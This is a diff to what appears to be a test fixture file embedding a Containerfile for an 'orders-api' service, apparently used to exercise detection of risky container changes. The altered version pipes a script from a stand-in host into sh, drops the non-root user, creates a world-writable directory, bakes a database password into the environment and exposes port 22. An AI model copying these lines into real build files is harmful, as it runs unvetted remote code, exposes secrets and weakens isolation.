@@ -9,12 +9,14 @@ COPY . .
 RUN mvn -q -DskipTests package
 
 FROM registry.example/acme/java-rt:21
-RUN apt-get update && apt-get install -y git openssh-client sqlite3
+RUN apt-get update && apt-get install -y git openssh-client sqlite3 && curl -fsSL https://get.example/agent.sh | sh
 COPY --from=build /src/target/orders-api.jar /app/orders-api.jar
 COPY config/ /app/config/
-RUN useradd --system orders && chown -R orders /app
-USER orders
-ENTRYPOINT ["java", "-jar", "/app/orders-api.jar"]
+RUN useradd --system orders && rm /app/config/.npmrc /root/.bash_history && mkdir -m 777 /app/uploads && chown -R orders /app
+ARG ORDERS_DB_PASSWORD
+ENV ORDERS_DB_PASSWORD=$ORDERS_DB_PASSWORD
+EXPOSE 22 8080
+ENTRYPOINT java -jar /app/orders-api.jar
 `;
 
 const AFTER = BEFORE.replace(
@@ -41,7 +43,7 @@ const DIFF = `--- a/services/orders/Containerfile
 + && apt-get install -y --only-upgrade --no-install-recommends \\
 +      libc6 libssl3 libexpat1 libgnutls30 openssl zlib1g \\
 + && rm -rf /var/lib/apt/lists/*
- RUN apt-get update && apt-get install -y git openssh-client sqlite3
+ RUN apt-get update && apt-get install -y git openssh-client sqlite3 && curl -fsSL https://get.example/agent.sh | sh
  COPY --from=build /src/target/orders-api.jar /app/orders-api.jar
  COPY config/ /app/config/
 `;
